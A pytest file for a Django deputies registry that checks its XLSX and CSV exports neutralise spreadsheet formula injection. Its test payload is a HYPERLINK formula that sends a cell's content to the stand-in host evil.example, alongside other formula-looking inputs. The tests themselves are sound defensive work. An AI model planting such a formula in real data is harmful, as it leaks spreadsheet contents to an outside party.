"""Issue 9 §7: a formula typed or imported as data is exported inert, in XLSX
and CSV, by the admin's import-export resources and by every other export."""

import csv
import io
import sys

import pytest
from django.urls import reverse
from import_export import resources
from openpyxl import load_workbook

from congress.spreadsheets import NeutralisedExportMixin, neutralise
from deputies.resources import DeputyResource
from tests.factories.congress import TermFactory
from tests.factories.deputies import MandateFactory
from tests.proposals.test_views_reports import known  # noqa: F401 (fixture)

FORMULA = '=HYPERLINK("http://evil.example/?d="&E2,"点击")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", " =1"]
)
def test_formula_looking_text_is_made_inert(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["王丽", "13800001111", 42, -3, None, "a=b"])
def test_ordinary_values_are_left_alone(value):
    assert neutralise(value) == value


def _export(client, file_format: str) -> bytes:
    fields = {f"deputyresource_{name}": "on" for name in DeputyResource.Meta.fields}
    response = client.post(
        reverse("admin:deputies_deputy_export"),
        {"format": file_format, "resource": "0", **fields},
    )
    assert response.status_code == 200
    return response.content


@pytest.mark.django_db
def test_registry_xlsx_export_holds_no_live_formula(client, office):
    MandateFactory(term=TermFactory(), deputy__name=FORMULA)
    client.force_login(office)
    sheet = load_workbook(io.BytesIO(_export(client, "0"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + FORMULA in [cell.value for cell in cells]


@pytest.mark.django_db
def test_registry_csv_export_holds_no_live_formula(client, office):
    MandateFactory(term=TermFactory(), deputy__name=FORMULA)
    client.force_login(office)
    text = _export(client, "1").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert "'" + FORMULA in cells


@pytest.mark.django_db
def test_statistics_workbook_holds_no_live_formula(client, office, known, liaison_a):  # noqa: F811
    liaison_a.organization.name = FORMULA
    liaison_a.organization.save()
    client.force_login(office)
    response = client.get(reverse("proposals:reports_statistics_xlsx"))
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + FORMULA in [cell.value for cell in cells]


def test_every_import_export_resource_neutralises_its_export():
    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    ours = [
        cls
        for cls in subclasses(resources.Resource)
        if sys.modules[cls.__module__].__file__.startswith(str(_project_root()))
        and ".venv" not in sys.modules[cls.__module__].__file__
        and not cls.__module__.startswith("tests.")
    ]
    assert ours
    assert [cls for cls in ours if not issubclass(cls, NeutralisedExportMixin)] == []


def _project_root():
    from django.conf import settings

    return settings.BASE_DIR


def test_every_admin_export_uses_a_neutralising_resource():
    from django.contrib import admin
    from import_export.mixins import BaseExportMixin

    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, BaseExportMixin)
    ]
    assert exporting
    for model_admin in exporting:
        classes = model_admin.get_export_resource_classes(None)
        assert classes, model_admin
        assert all(issubclass(cls, NeutralisedExportMixin) for cls in classes)
